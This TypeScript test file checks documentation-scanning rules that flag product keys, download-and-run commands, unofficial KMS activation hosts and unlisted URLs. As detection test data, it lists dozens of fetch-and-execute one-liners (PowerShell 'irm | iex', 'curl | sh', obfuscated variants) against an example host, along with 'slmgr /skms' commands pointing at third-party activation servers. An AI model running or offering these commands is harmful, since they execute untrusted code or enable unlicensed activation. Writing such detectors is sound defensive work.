import {describe, expect, test} from 'vitest';
import {
  checkDownloadAndRun,
  checkHosts,
  checkKmsHosts,
  checkProductKeys,
} from '../../../../checks/rules/scope';

const source = (text: string) => ({path: 'docs/x.md', text});
/** Builds texts that look like product keys, so that this file contains none. */
const groups = (separator: string) =>
  ['ABCDE', 'FGHIJ', '12345', 'KLMNO', 'P6789'].join(separator);
const placeholder = Array<string>(5).fill('XXXXX').join('-');

describe('product keys', () => {
  test.each(['-', '–', '—', '\u2011', '_', ' - ', ' '])(
    'groups joined by "%s" are a fault',
    (separator) => {
      expect(checkProductKeys(source(`a\nKey: ${groups(separator)}.`))).toEqual(
        [expect.objectContaining({path: 'docs/x.md', line: 2})],
      );
    },
  );

  test('finds them in lower case, code and quotation marks', () => {
    for (const text of [
      groups('-').toLowerCase(),
      `\`slmgr /ipk ${groups('-')}\``,
      `<PIDKEY Value="${groups('-')}" />`,
    ]) {
      expect(checkProductKeys(source(text)), text).toHaveLength(1);
    }
  });

  test('the placeholder, ids and prose are fine', () => {
    for (const text of [
      placeholder,
      '55c92734-d682-4d71-983e-d6ec3f16059f',
      'these words could stand alone',
      '00330-80000-00000-AA123',
      `${groups('-')}-QRSTU`,
    ]) {
      expect(checkProductKeys(source(text)), text).toEqual([]);
    }
  });

  test('a placeholder of other letters is a fault', () => {
    expect(
      checkProductKeys(source(placeholder.replaceAll('X', 'Y'))),
    ).toHaveLength(1);
  });
});

describe('downloads that run', () => {
  const url = 'https://host.example/a';
  test.each([
    `irm ${url} | iex`,
    `irm ${url}|iex`,
    `iwr -useb ${url} | Invoke-Expression`,
    `Invoke-RestMethod -Uri ${url} | IEX`,
    `Invoke-WebRequest ${url} | ForEach-Object { iex $_.Content }`,
    `iex (irm ${url})`,
    `iex "$(irm ${url})"`,
    `iex ((New-Object Net.WebClient).DownloadString('${url}'))`,
    `(New-Object System.Net.WebClient).DownloadString('${url}') | iex`,
    `& ([scriptblock]::Create((irm ${url})))`,
    `$s = irm ${url}; iex $s`,
    `powershell -c "irm ${url} | iex"`,
    `curl -fsSL ${url} | sh`,
    `curl ${url} | sudo -E bash -`,
    `curl ${url} |& bash`,
    `wget -qO- ${url} | /bin/bash`,
    `curl ${url} | tee a | zsh`,
    `curl ${url} | python3 -`,
    `curl.exe ${url} | cmd`,
    `bash <(curl -s ${url})`,
    `source <(curl -s ${url})`,
    `. <(curl -s ${url})`,
    `sh -c "$(curl -fsSL ${url})"`,
    `eval "$(wget -qO- ${url})"`,
    `bash -c "\`curl ${url}\`"`,
    `mshta ${url}`,
    `curl ${url} \\\n  | sh`,
    `irm ${url} |\n  iex`,
    `irm ${url} \`\n  | iex`,
    `| Command | \`irm ${url} \\| iex\` |`,
    `Never type \`irm ${url} | iex\`.`,
    `irm ${url} | i\u00adex`,
    `irm ${url} | &('i' + 'ex')`,
    `irm ${url} | i\`ex`,
    `curl ${url} | po^wershell -`,
  ])('%j is a fault', (text) => {
    expect(checkDownloadAndRun(source(`Text.\n${text}`))).toEqual([
      expect.objectContaining({line: 2}),
    ]);
  });

  test.each([
    `curl -LO ${url}`,
    `Invoke-WebRequest ${url} -OutFile a.iso`,
    'Get-FileHash a.iso | Format-List',
    `curl ${url} | findstr hash`,
    'winget list | more',
    '| `curl` | downloads a file | `sh` | runs one |',
    'type a.txt | powershell -NoProfile -Command -',
    'A shell (bash, zsh) and curl are different programs.',
  ])('%j is fine', (text) => {
    expect(checkDownloadAndRun(source(text))).toEqual([]);
  });
});

describe('KMS hosts', () => {
  const allowed = [{host: 'kms.vendor.com', reason: 'documented'}];
  test.each([
    'slmgr /skms kms.host.com',
    'slmgr /skms kms.host.com:1688',
    'slmgr /skms s1.activators.net',
    'slmgr /skms 203.0.113.7',
    'slmgr -skms 203.0.113.7:1688',
    'cscript ospp.vbs /sethst:s1.activators.net',
    'slmgr /skms-domain host.com',
    '"KeyManagementServiceName"="s1.activators.net"',
    'A host such as `kms8.host.org`.',
    'e-kms.host.cn',
    '_vlmcs._tcp.host.com',
  ])('"%s" is a fault', (text) => {
    expect(checkKmsHosts(source(text), allowed)).toHaveLength(1);
  });

  test.each([
    'slmgr /skms kms.corp.example:1688',
    'cscript ospp.vbs /sethst:kms.corp.example',
    'slmgr /skms-domain corp.example',
    '_vlmcs._tcp.corp.example',
    'slmgr /skms <host>:1688',
    'The option `/skms` sets a host, `/ckms` clears it.',
    'kms.vendor.com',
    '[KMS](online_kms.md) and [KMS38](kms38.md#undo)',
    'https://host.example/get-started/kms-client.aspx/x',
    'AutoKMS.exe',
    'return kmsHost.place;',
  ])('"%s" is fine', (text) => {
    expect(checkKmsHosts(source(text), allowed)).toEqual([]);
  });
});

describe('hosts', () => {
  const allowed = [
    {host: 'good.org', reason: 'test'},
    {host: 'code.org', reason: 'test', paths: ['/team/']},
  ];
  const faults = (text: string) => checkHosts(source(text), allowed);

  test('on the list, reserved for examples, or under a reviewed path are fine', () => {
    for (const text of [
      '[a](https://good.org/x)',
      'http://GOOD.org',
      'https://kms.corp.example/x',
      'https://docs.example.org',
      'https://code.org',
      'https://code.org/team/x',
      'https://code.org/team',
      'https://`${host}`',
    ]) {
      expect(faults(text), text).toEqual([]);
    }
  });

  test('other hosts are faults, each with its line', () => {
    for (const text of [
      'https://bad.org/x',
      'https://code.org:443/other/x',
      'https://good.org.bad.org',
      'https://sub.good.org',
      'https://code.org/teamster/x',
      'https://code.org/other',
      '<https://bad.org>',
      '`curl http://bad.org:8080`',
    ]) {
      expect(faults(`a\n${text}`), text).toEqual([
        expect.objectContaining({line: 2}),
      ]);
    }
  });
});
